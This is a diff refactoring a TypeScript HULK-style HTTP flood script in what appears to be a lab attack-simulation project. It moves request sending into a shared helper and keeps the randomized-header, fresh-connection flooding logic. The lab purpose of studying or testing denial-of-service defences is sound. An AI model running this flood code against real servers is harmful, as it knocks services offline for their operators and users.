@@ -5,13 +5,10 @@
  *
  * Usage: node --import tsx lab/attacks/hulk.ts '<HttpAttackConfig JSON>'
  */
-import http from 'node:http';
 import { SeededRandom } from '../random.ts';
 import { REFERERS, USER_AGENTS } from '../agents/user-agents.ts';
 import { RateLimiter } from './rate-limiter.ts';
-import { createCounters, hostHeader, printResult, readAttackConfig, stopSignal } from './http-flood-common.ts';
-
-const REQUEST_TIMEOUT_MS = 5_000;
+import { createCounters, hostHeader, printResult, readAttackConfig, sendCountedRequest, stopSignal } from './http-flood-common.ts';
 
 const config = readAttackConfig('hulk');
 const signal = stopSignal(config.durationMs);
@@ -29,27 +26,10 @@ function oneRequest(random: SeededRandom): Promise<void> {
     'Keep-Alive': String(random.int(110, 120)),
     Connection: 'keep-alive',
   };
-  counters.requests++;
   counters.connections++;
-  return new Promise((resolve) => {
-    // agent: false opens a fresh connection. The socket is ended after one response, as a
-    // one-shot HTTP library does, even though the request headers ask for keep-alive.
-    const req = http.request({ host: config.targetAddress, port: config.port, path, headers, agent: false, timeout: REQUEST_TIMEOUT_MS }, (res) => {
-      res.resume();
-      res.on('end', () => {
-        counters.responses++;
-        req.socket?.end();
-        resolve();
-      });
-      res.on('error', () => resolve());
-    });
-    req.on('timeout', () => req.destroy(new Error('timeout')));
-    req.on('error', () => {
-      counters.errors++;
-      resolve();
-    });
-    req.end();
-  });
+  // agent: false opens a fresh connection. The socket is ended after one response, as a
+  // one-shot HTTP library does, even though the request headers ask for keep-alive.
+  return sendCountedRequest({ host: config.targetAddress, port: config.port, path, headers, agent: false }, counters, undefined, (req) => req.socket?.end());
 }
 
 async function worker(random: SeededRandom): Promise<void> {
